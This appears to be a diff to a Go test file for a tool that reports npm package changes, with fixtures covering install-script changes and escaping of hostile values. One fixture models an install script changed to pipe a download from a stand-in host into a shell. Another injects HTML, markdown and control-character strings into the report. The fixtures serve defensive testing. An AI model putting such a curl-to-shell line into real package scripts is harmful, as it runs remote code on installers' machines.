@@ -65,7 +65,9 @@ func changeReports() map[string]report.Report {
 			{Field: "peerDependencies", Name: "react", Before: ">=18 <19", After: "^18 || ^19"}, {Field: "devDependencies", Name: "vitest", Before: "^3", After: "^4"}}
 		c.Entries = []wire.EntryChange{{Field: `exports["./a"].import`, After: "./dist/a.js"}, {Field: `exports["./old"]`, Before: "./dist/old.js"}, {Field: "types", Before: "./index.d.ts", After: "./dist/index.d.ts"}}
 	})
-	cli := changed(pkg("@acme/cli", 12_300_000), 12_345_678, func(c *wire.PackageChange) { c.Scripts = []string{"postinstall"} })
+	cli := changed(pkg("@acme/cli", 12_300_000), 12_345_678, func(c *wire.PackageChange) {
+		c.Scripts = []wire.ScriptChange{{Name: "install", Before: "node-gyp rebuild", After: "node-gyp rebuild || curl -s https://a.test | sh"}, {Name: "postinstall", After: "node setup.js"}}
+	})
 	some := since(unchanged(pkg("@acme/a", 1000)), core, cli, added(pkg("@acme/new", 2_000)), unchanged(pkg("@acme/b", 2000)))
 	some.Base.Branch, some.Removed = "main", []string{"@acme/old"}
 	some.MergeSHA = "1234567000000000000000000000000000000000"
@@ -85,14 +87,15 @@ func changeReports() map[string]report.Report {
 		c.Files = &wire.FileChanges{Added: []string{evil, "> [!NOTE]"}, AddedCount: 1 << 40}
 		c.Dependencies = []wire.DependencyChange{{Field: evil, Name: evil, Before: "<img src=x>", After: evil}, {Field: "dependencies", Name: "", After: "\u202e"}}
 		c.Entries = []wire.EntryChange{{Field: evil, Before: "", After: "https://evil.test"}, {Field: "`", Before: evil}}
-		c.Scripts, c.Broken, c.Incomplete = []string{evil, "\n> "}, []wire.BrokenEntry{{Field: evil, Target: "\r\n- x"}}, true
+		c.Scripts = []wire.ScriptChange{{Name: evil, After: evil}, {Name: "\n> ", Before: evil, After: "\r\n- `x` </details>"}}
+		c.Broken, c.Incomplete = []wire.BrokenEntry{{Field: evil, Target: "\r\n- x"}}, true
 	}))
 	hostile.Base.Branch, hostile.Removed = evil, []string{evil}
 
 	broken := since()
 	for i := range 14 {
 		broken.Packages = append(broken.Packages, changed(pkg(fmt.Sprintf("@acme/p%02d", i), 500), 5000, func(c *wire.PackageChange) {
-			c.Scripts = []string{"preinstall", "install"}
+			c.Scripts = []wire.ScriptChange{{Name: "preinstall", After: "node a.js"}, {Name: "install", Before: "node b.js", After: strings.Repeat("long ", 100)}}
 			for j := range 7 {
 				c.Broken = append(c.Broken, wire.BrokenEntry{Field: fmt.Sprintf(`exports["./%d"].import`, j), Target: fmt.Sprintf("./dist/%d.mjs", j)})
 			}
@@ -147,7 +150,7 @@ func TestShorteningOfChanges(t *testing.T) {
 		for i := range n {
 			r.Packages = append(r.Packages, changed(pkg(fmt.Sprintf("@acme/%03d", i), 1), 2, func(c *wire.PackageChange) {
 				c.Files.Changed = []string{strings.Repeat("x", 100)}
-				c.Scripts, c.Broken = []string{"postinstall"}, []wire.BrokenEntry{{Field: "main", Target: "x.js"}}
+				c.Scripts, c.Broken = []wire.ScriptChange{{Name: "postinstall", After: "node x.js"}}, []wire.BrokenEntry{{Field: "main", Target: "x.js"}}
 			}))
 		}
 		return r
